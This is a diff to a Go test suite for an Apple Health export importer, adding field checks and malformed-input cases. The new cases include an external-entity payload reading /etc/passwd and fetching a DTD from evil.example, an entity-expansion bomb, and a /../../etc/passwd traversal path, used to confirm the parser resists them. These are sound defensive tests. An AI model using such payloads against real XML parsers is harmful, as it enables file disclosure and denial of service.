@@ -115,7 +115,9 @@ func TestAppleArchive(t *testing.T) {
 		t.Errorf("got %+v", report.Skipped)
 	}
 	record := person(t, s, "conditionRecord")[0]
-	if record.Source.Name != "General Hospital" || record.Source.ID != "import:https://fhir.example.org/r4" || record.FHIR.Identifier != "c1" {
+	if record.Source.Name != "General Hospital" || record.Source.ID != "import:https://fhir.example.org/r4" || record.FHIR.Identifier != "c1" ||
+		record.FHIR.SourceURL != "https://fhir.example.org/r4/Condition/c1" || record.Metadata[store.ReceivedKey] != "2024-01-01 07:00:00 +0100" ||
+		record.FHIR.Version != "4.0.1" {
 		t.Errorf("got %+v", record)
 	}
 	if ecg := person(t, s, "electrocardiogram")[0]; ecg.Subtitle != "Sinus Rhythm" || ecg.StartDate != 1709273730000 {
@@ -144,14 +146,28 @@ func TestAppleBadInput(t *testing.T) {
 		{"unknown type", strings.Replace(stepsFrom, "StepCount", "Luck", 1) + at + `value="1"/>`, "the type of this record is not known"},
 		{"unknown category value", `<Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="W" ` + at + `value="HKCategoryValueSleepAnalysisNapping"/>`, "the value is none that this type has"},
 		{"long attribute", `<Record type="HKQuantityTypeIdentifierStepCount" sourceName="` + strings.Repeat("x", 3<<20) + `"/>`, "a tag is longer than 1 MiB"},
+		{"value of another shape", stepsFrom + at + `value="1,5"/>`, "the value is not a number"},
+		{"year 10000", stepsFrom + `startDate="10000-01-01 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "startDate is not a date"},
+		{"day that is none", stepsFrom + `startDate="2023-02-29 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "startDate is not a date"},
+		{"quantity of a category", `<Record type="HKQuantityTypeIdentifierStepCount" sourceName="W" unit="count" ` + at + `value="HKCategoryValueNotApplicable"/>`, "the value is not a number"},
+		{"type of no record", strings.Replace(stepsFrom, "HKQuantityTypeIdentifierStepCount", "HKWorkoutTypeIdentifier", 1) + at + `value="1"/>`, "a record can't be of this type"},
+		{"workout before its start", `<Workout workoutActivityType="HKWorkoutActivityTypeRunning" sourceName="W" startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 07:00:00 +0100"/>`, "endDate is before startDate"},
+		{"day of a summary", `<ActivitySummary dateComponents="0000-00-00" activeEnergyBurned="1"/>`, "the date is not a day"},
+		{"unknown correlation", `<Correlation type="HKCorrelationTypeIdentifierLuck" sourceName="W" ` + at + `/>`, "the type of this correlation is not known"},
+		{"clinical record without its file", `<ClinicalRecord type="Condition" resourceFilePath="/../../etc/passwd"/>`, "is not in the export"},
+		{"nested too deep", strings.Repeat("<a>", 200) + strings.Repeat("</a>", 200), ""},
+		{"entity bomb", `<Rumour text="&e;&e;&e;"/>`, ""},
 		{"external entity", "", ""},
 		{"unknown element", `<Rumour text="x"/>`, ""},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			s := openStore(t)
 			document := healthData(steps("10"), c.element, strings.Replace(steps("20"), "08:10:00", "08:20:00", 1))
-			if c.name == "external entity" {
-				document = strings.Replace(document, "]>", `<!ENTITY e SYSTEM "file:///etc/passwd">]>`, 1)
+			if entity := map[string]string{
+				"external entity": `<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x.dtd">`,
+				"entity bomb":     `<!ENTITY e "` + strings.Repeat("&f;", 1000) + `"><!ENTITY f "` + strings.Repeat("ha", 1000) + `">`,
+			}[c.name]; entity != "" {
+				document = strings.Replace(document, "]>", entity+"]>", 1)
 			}
 			report := mustImport(t, s, fileOf("export.xml", document))
 			if got := len(person(t, s, "stepCount")); got != 2 {
@@ -252,7 +268,11 @@ func FuzzAppleExport(f *testing.F) {
 	f.Add(healthData(`<Me HKCharacteristicTypeIdentifierBloodType="HKBloodTypeANegative"/>`))
 	f.Fuzz(func(t *testing.T, document string) {
 		s := openStore(t)
-		report, err := intake.Import(context.Background(), s, []intake.File{fileOf("export.xml", document)}, nil)
+		var report intake.Report
+		var err error
+		modest(t, len(document), func() {
+			report, err = intake.Import(context.Background(), s, []intake.File{fileOf("export.xml", document)}, nil)
+		})
 		if err != nil {
 			t.Fatal(err)
 		}
